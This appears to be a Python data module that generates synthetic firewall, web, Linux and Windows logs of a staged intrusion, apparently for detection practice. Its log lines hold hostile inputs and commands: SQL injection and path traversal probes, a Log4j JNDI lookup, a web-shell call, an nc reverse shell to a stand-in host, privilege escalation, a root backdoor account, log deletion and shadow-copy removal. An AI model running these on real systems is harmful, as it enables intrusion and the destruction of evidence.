# noqa: INP001 (imported by the script beside it)
"""What happens in the samples that must be noticed; times are local, on 2 March 2026.

One intruder comes in through the portal on web-02, reaches db-01 and the Windows servers, and clears up behind himself; another
finds the firewall's administration open to the Internet. The rest is carelessness.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable
    from datetime import datetime

INTRUDER = "198.51.100.23"
OTHER = "203.0.113.66"
COMMAND = "203.0.113.201"


class Flow(NamedTuple):
    source: str
    destination: str
    port: int
    into: str
    out: str
    action: str


_SERVICES = {22: "SSH", 23: "TELNET", 443: "HTTPS", 3306: "MYSQL", 3389: "RDP", 5432: "PostgreSQL"}
_ROLES = {"wan1": "wan", "dmz": "dmz"}


def _fortigate(at: datetime, logid: str, rest: str) -> str:
    stamp = f'date={at:%Y-%m-%d} time={at:%H:%M:%S} devname="fw-edge-01" devid="FGTDEMO000000001"'
    return f'{stamp} eventtime={int(at.timestamp())}000000000 tz="+0700" logid="{logid}" {rest}'


def traffic(at: datetime, flow: Flow, size: int) -> str:
    """A FortiGate traffic line; what was denied moved no bytes."""
    denied = flow.action == "deny"
    return _fortigate(
        at,
        "0000000013",
        f'type="traffic" subtype="forward" level="{"warning" if denied else "notice"}" vd="root" srcip={flow.source}'
        f' srcport=5{int(at.timestamp()) % 9000 + 1000} srcintf="{flow.into}" srcintfrole="{_ROLES.get(flow.into, "lan")}"'
        f' dstip={flow.destination} dstport={flow.port} dstintf="{flow.out}" dstintfrole="{_ROLES.get(flow.out, "lan")}"'
        f' sessionid={int(at.timestamp()) % 900_000} proto=6 action="{flow.action}" policyid={0 if denied else 40}'
        f' policytype="policy" service="{_SERVICES[flow.port]}" duration={0 if denied else 64}'
        f" sentbyte={0 if denied else size // 8} rcvdbyte={0 if denied else size}",
    )


def _flow(size: int, *flow: Any) -> Callable[[datetime], str]:
    return lambda at: traffic(at, Flow(*flow), size)


def _event(logid: str, rest: str) -> Callable[[datetime], str]:
    return lambda at: _fortigate(at, logid, f'type="event" subtype="system" vd="root" {rest}')


def _threat(logid: str, rest: str) -> Callable[[datetime], str]:
    return lambda at: _fortigate(at, logid, f'type="utm" vd="root" {rest}')


def dated(at: datetime, text: str) -> str:
    """An audit record carries its time inside."""
    return text.replace("{epoch}", f"{int(at.timestamp())}.100")


_LOGIN = f'user="admin" ui="https({OTHER})" method="https" srcip={OTHER} dstip=192.0.2.1 action="login"'
_CHANGE = f'level="information" logdesc="Object attribute configured" user="admin" ui="https({OTHER})"'
_IPS = 'subtype="ips" eventtype="signature" level="alert" proto=6 service="HTTPS" profile="ips-monitor"'
_AUDIT = "arch=c000003e syscall=59 success=yes exit=0 a0=5 a1=5 a2=5 a3=8 items=2"
_WEB_USER = "auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295"
_SECURITY = {"Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing"}
_SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "EventID": 1}
_CLI = {"ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "EXAMPLE\\svc-report"}
_DOMAIN = "S-1-5-21-1111111111-2222222222-3333333333"

LINES: dict[str, tuple[tuple[Any, ...], ...]] = {
    "firewall.log": (
        *((f"12:3{minute}:20", _event("0100032002", f'level="alert" logdesc="Admin login failed" {_LOGIN} status="failed" reason="passwd_invalid" msg="Administrator admin login failed from https({OTHER}) because of invalid password"')) for minute in range(5)),
        ("12:36:02", _event("0100032001", f'level="information" logdesc="Admin login successful" {_LOGIN} status="success" reason="none" profile="super_admin" msg="Administrator admin logged in successfully from https({OTHER})"')),
        ("12:38:40", _event("0100044546", f'{_CHANGE} action="Edit" cfgtid=1703930 cfgpath="log.syslogd2.setting" cfgattr="status[enable->disable]" msg="Edit log.syslogd2.setting "')),
        ("12:41:15", _event("0100044547", f'{_CHANGE} action="Add" cfgtid=1703931 cfgpath="firewall.policy" cfgobj="88" cfgattr="name[tmp]srcintf[wan1]dstintf[any]action[accept]srcaddr[all]dstaddr[all]schedule[always]service[ALL]" msg="Add firewall.policy 88"')),
        ("12:49:03", _flow(88_100_231, OTHER, "10.40.0.12", 3306, "wan1", "db", "close")),
        ("12:52:31", _flow(8_810, OTHER, "10.20.1.9", 3389, "wan1", "dmz", "close")),
        ("13:05:11", _flow(14_022, "10.30.5.44", "10.90.0.21", 23, "users", "mgmt", "close")),
        ("13:20:45", _threat("0419016384", f'{_IPS} severity="critical" srcip={INTRUDER} dstip=10.20.1.9 srcport=44120 dstport=443 srcintf="wan1" srcintfrole="wan" dstintf="dmz" dstintfrole="dmz" sessionid=77120 action="detected" policyid=43 attack="Demo.Framework.File.Upload" hostname="portal.example.vn" url="/tai-len" direction="incoming" attackid=900001 msg="web_app: Demo.Framework.File.Upload"')),
        ("14:16:02", _flow(881_044, "10.30.5.81", "10.40.0.11", 5432, "users", "db", "close")),
        ("14:31:15", _threat("1501054601", 'subtype="dns" eventtype="dns-response" level="warning" policyid=3 sessionid=41231 srcip=10.30.5.112 srcport=53122 srcintf="users" srcintfrole="lan" dstip=10.90.0.53 dstport=53 dstintf="mgmt" dstintfrole="lan" proto=17 profile="default" xid=1201 qname="update.botnet-demo.example" qtype="A" qtypeval=1 qclass="IN" msg="Domain was blocked by dns botnet C&C" action="redirect" botnetdomain="update.botnet-demo.example"')),
    ),
    "web.log": (
        *((f"13:1{minute}:15", INTRUDER, f"GET /tra-cuu?mahs=1%27%20UNION%20SELECT%20NULL,{minute}--%20-", 500, 612, "python-requests/2.32") for minute in range(4)),
        ("13:15:40", INTRUDER, "GET /tai-ve?tep=..%2f..%2f..%2f..%2fetc%2fpasswd", 404, 153, "python-requests/2.32"),
        ("13:16:05", INTRUDER, "GET /", 200, 5120, "${jndi:ldap://" + COMMAND + ":1389/a}"),
        ("13:21:02", INTRUDER, "POST /uploads/2026/03/mau-don-77.php", 200, 33, "python-requests/2.32"),
        ("13:21:40", INTRUDER, "GET /uploads/2026/03/mau-don-77.php?c=id", 200, 54, "python-requests/2.32"),
        ("14:02:10", "198.51.100.140", "GET /phpmyadmin/index.php", 200, 15133, "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"),
        ("14:40:15", "198.51.100.95", "GET /backup/hoso_2026.sql.gz", 200, 48_120_331, "Wget/1.24"),
    ),
    "host-linux.log": (
        ("13:21:41", "web-02", "audispd", f'type=SYSCALL msg=audit({{epoch}}:98100): {_AUDIT} ppid=912 pid=20311 {_WEB_USER} comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"'),
        ("13:22:10", "web-02", "audispd", 'type=EXECVE msg=audit({epoch}:98140): argc=5 a0="nc" a1="' + COMMAND + '" a2="4444" a3="-e" a4="/bin/sh"'),
        ("13:25:10", "web-02", "sudo", "www-data : TTY=pts/1 ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;"),
        ("13:27:40", "web-02", "useradd", "new user: name=sysd, UID=0, GID=0, home=/var/tmp/.s, shell=/bin/bash, from=/dev/pts/1"),
        ("13:31:05", "web-02", "audispd", 'type=EXECVE msg=audit({epoch}:98190): argc=3 a0="rm" a1="-f" a2="/var/log/auth.log"'),
        ("13:52:12", "db-01", "sshd", "Accepted password for root from 198.51.100.23 port 50122 ssh2"),
        ("13:55:01", "db-01", "audispd", 'type=EXECVE msg=audit({epoch}:10160): argc=4 a0="pg_dump" a1="-Fc" a2="-f" a3="/tmp/hoso.dump"'),
        ("13:58:01", "db-01", "audispd", "type=SERVICE_STOP msg=audit({epoch}:10188): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=rsyslog comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'"),
    ),
    "host-windows.ndjson": (
        ("14:20:05", "file-01", {**_SYSMON, **_CLI, "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="}),
        ("14:26:10", "dc-01", {**_SECURITY, "EventID": 4728, "MemberSid": f"{_DOMAIN}-1190", "TargetUserName": "Domain Admins", "TargetSid": f"{_DOMAIN}-512", "SubjectUserName": "svc-report"}),
        ("14:45:30", "file-01", {"Channel": "Microsoft-Windows-Windows Defender/Operational", "Provider_Name": "Microsoft-Windows-Windows Defender", "EventID": 1116, "Threat Name": "Ransom:Win32/Demo.B", "Severity Name": "Severe", "Path": "file:_D:\\TaiLieu\\q7x.exe"}),
        ("14:47:05", "file-01", {**_SYSMON, **_CLI, "Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin delete shadows /all /quiet"}),
        ("14:55:12", "file-01", {"Channel": "Security", "Provider_Name": "Microsoft-Windows-Eventlog", "EventID": 1102, "SubjectUserName": "svc-report"}),
    ),
}  # fmt: skip

# Programs that app-03 has never run, for its strange ten minutes.
STRANGE = (
    ("dockerd", "container {n} started from image registry.example.net/tools:latest"),
    ("containerd", "shim {n} reaped"),
    ("rpcbind", "connect from 10.20.2.{n} to getport/addr(mountd)"),
    ("smbd", "tree connect failed: NT_STATUS_ACCESS_DENIED"),
    ("tor", "Bootstrapped {n}% (handshake)"),
    ("xrig", "accepted share {n}"),
    ("gcc", "linking /tmp/.x/{n}"),
    ("nmap", "scan report for 10.20.2.{n}"),
    ("at", "job {n} queued"),
    ("wpad-proxy", "CONNECT 203.0.113.201:443"),
)
